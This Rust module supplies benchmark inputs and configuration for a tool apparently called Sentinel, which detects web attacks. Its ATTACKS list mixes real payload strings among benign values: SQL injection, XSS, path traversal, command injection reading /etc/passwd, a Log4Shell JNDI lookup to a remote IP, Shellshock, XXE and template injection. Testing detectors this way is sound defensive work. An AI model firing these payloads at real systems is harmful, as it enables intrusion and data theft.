//! Shared inputs for Sentinel's benchmarks.

#![warn(missing_docs)]

/// A deterministic mix of payload values: about 70 % everyday values
/// (words, numbers, e-mails, user agents, JSON fragments, Latin-1 form
/// values) and 30 % attacks of every class, `n` values long.
pub fn payload_mix(n: usize) -> Vec<Vec<u8>> {
    const BENIGN: &[&str] = &[
        "red shoes",
        "42",
        "O'Brien",
        "alice@example.com",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "{\"a\":1,\"b\":[1,2]}",
        "A%F1adir+al+carrito",
        "c/ caridad s/n",
        "1442431887503330",
        "select the best gift from our shop",
        "https://shop.example/products?id=7&sort=price",
        "dGhpcyBpcyBhIGJhc2U2NCB0b2tlbg==",
        "Rue de l'Église 5, Liège",
        "2026-01-01T10:00:00Z",
        "winter+jacket+size+42",
        "JSESSIONID=1F767F17239C9B670A39E9B10C3825F4",
        "tea & biscuits",
    ];
    const ATTACKS: &[&str] = &[
        "1%27%20OR%20%271%27%3D%271",
        "1 UNION SELECT username,password FROM users--",
        "1' AND SLEEP(5)#",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "..%252f..%252fwindows%252fwin.ini",
        "127.0.0.1;cat /etc/passwd",
        "${jndi:ldap://198.51.100.23:1389/a}",
        "() { :; }; /bin/bash -c 'id'",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "{{7*7}}",
    ];
    (0..n)
        .map(|i| {
            // A fixed interleaving: 7 benign, 3 attacks per 10.
            let v = if i % 10 < 7 {
                BENIGN[(i * 7 + i / 10) % BENIGN.len()]
            } else {
                ATTACKS[(i * 3 + i / 10) % ATTACKS.len()]
            };
            v.as_bytes().to_vec()
        })
        .collect()
}

/// The models a benchmark scores with: `rules` (signatures, heuristic
/// behaviour, no profile) or `full` (the default model of a data directory —
/// `SENTINEL_DATA_DIR`, else `target/bench-data` — trained on first use,
/// plus the behaviour forest).
pub fn bench_models(kind: &str) -> anyhow::Result<std::sync::Arc<sentinel_models::ModelBundle>> {
    use sentinel_models::{ModelBundle, ModelsConfig};
    match kind {
        "rules" => Ok(std::sync::Arc::new(ModelBundle::rules_only())),
        "full" => {
            let dir = std::env::var_os("SENTINEL_DATA_DIR")
                .map(std::path::PathBuf::from)
                .unwrap_or_else(|| {
                    std::path::PathBuf::from(concat!(
                        env!("CARGO_MANIFEST_DIR"),
                        "/../target/bench-data"
                    ))
                });
            let bundle = ModelBundle::open(&dir, &ModelsConfig::default(), |_| {})?;
            Ok(std::sync::Arc::new(bundle))
        }
        other => anyhow::bail!("unknown models {other:?}: use rules or full"),
    }
}

/// The services the bench graphs run with: with the full models, the
/// threat-twin simulator and the benign-corpus rule guard, as `sentinel
/// replay` runs them; with the rules alone, neither.
///
/// `outcome_cache`: whether the twins keep their outcomes. Benchmarks that
/// run the same input several times turn it off, so that every run does
/// the work instead of reusing the first run's outcomes.
pub fn bench_services(
    kind: &str,
    outcome_cache: bool,
) -> anyhow::Result<sentinel_dataflow::GraphServices> {
    bench_services_keeping(kind, outcome_cache, None)
}

/// [`bench_services`] with the sandbox's `memory_keep_resident_bytes` set
/// (`None`: the default), for the benches' `--keep-resident` option.
pub fn bench_services_keeping(
    kind: &str,
    outcome_cache: bool,
    keep_resident: Option<usize>,
) -> anyhow::Result<sentinel_dataflow::GraphServices> {
    let simulator = bench_simulator(kind, outcome_cache, keep_resident)?;
    let rule_guard = if kind == "full" {
        Some(std::sync::Arc::new(
            sentinel_operators::rule_guard::RuleGuard::from_config(&Default::default())?,
        ))
    } else {
        None
    };
    Ok(sentinel_dataflow::GraphServices {
        simulator,
        rule_guard,
        ..Default::default()
    })
}

/// The threat-twin simulator the bench graphs run with the full models
/// (`None` with the rules alone, as `--no-simulate` would).
/// `outcome_cache`: see [`bench_services`]; `keep_resident`: see
/// [`bench_services_keeping`].
pub fn bench_simulator(
    kind: &str,
    outcome_cache: bool,
    keep_resident: Option<usize>,
) -> anyhow::Result<Option<std::sync::Arc<sentinel_operators::simulate::Simulator>>> {
    if kind != "full" {
        return Ok(None);
    }
    let defaults = sentinel_sandbox::SandboxConfig::default();
    let sandbox = sentinel_sandbox::Sandbox::new(
        sentinel_sandbox::SandboxConfig {
            result_cache_entries: if outcome_cache {
                defaults.result_cache_entries
            } else {
                0
            },
            memory_keep_resident_bytes: keep_resident.or(defaults.memory_keep_resident_bytes),
            ..defaults
        },
        std::sync::Arc::new(sentinel_schema::NoAudit),
    )?;
    let cache = std::path::PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../target/bench-data/sandbox/cache"
    ));
    let module = sandbox.twins(Some(&cache))?;
    Ok(Some(sentinel_operators::simulate::Simulator::new(
        sandbox, module,
    )))
}

/// The graph the bench binaries run: the defaults with 1 s buckets.
pub fn bench_graph() -> sentinel_dataflow::GraphConfig {
    sentinel_dataflow::GraphConfig {
        bucket_ms: 1000,
        ..sentinel_dataflow::GraphConfig::default()
    }
}

/// A replay of one file (named `name` in provenance) into `out` as the bench
/// binaries run it: default source options, the [`bench_graph`], no
/// enrichment tables, evidence store or rules directory, one process.
pub fn bench_replay(
    path: &std::path::Path,
    name: &str,
    out: &std::path::Path,
    workers: usize,
    models: std::sync::Arc<sentinel_models::ModelBundle>,
    services: sentinel_dataflow::GraphServices,
) -> sentinel_dataflow::ReplayConfig {
    sentinel_dataflow::ReplayConfig {
        inputs: vec![sentinel_dataflow::FileInput {
            path: path.to_path_buf(),
            name: name.to_string(),
            options: sentinel_sources::SourceOptions::default(),
        }],
        out: out.to_path_buf(),
        workers,
        source: sentinel_dataflow::SourceSettings::default(),
        graph: bench_graph(),
        models,
        enrichment: std::sync::Arc::new(sentinel_operators::enrich::EnrichmentTables::default()),
        evidence_store: Default::default(),
        services,
        rules_dir: None,
        cluster: None,
        schedule_log: None,
    }
}
